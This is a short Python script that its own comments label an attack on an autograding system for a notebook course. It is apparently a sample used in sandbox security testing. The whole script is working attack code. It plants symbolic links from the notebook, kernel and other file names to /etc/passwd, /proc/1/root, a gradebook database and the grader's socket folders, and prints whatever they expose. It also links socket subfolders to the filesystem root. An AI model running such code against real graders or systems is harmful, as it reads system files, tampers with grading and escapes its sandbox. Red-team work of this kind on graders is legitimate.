# attack: symbolic links to the course and the system stand where the grader may write
# harmless: no
import os

for name in ("em_gmm_1d.ipynb", "link", "../link", "kernel.json"):
    for target in ("/etc/passwd", "/proc/1/root", "../../../gradebook.db", "/sockets"):
        try:
            os.symlink(target, name)
            print(name, os.listdir(name) if os.path.isdir(name) else open(name).read())
        except OSError:
            pass
for folder in ("/sockets", *(f"/sockets/{name}" for name in os.listdir("/sockets"))):
    for name in ("files", "kernel-1", "next"):
        try:
            os.symlink("/", f"{folder}/{name}")
        except OSError:
            pass
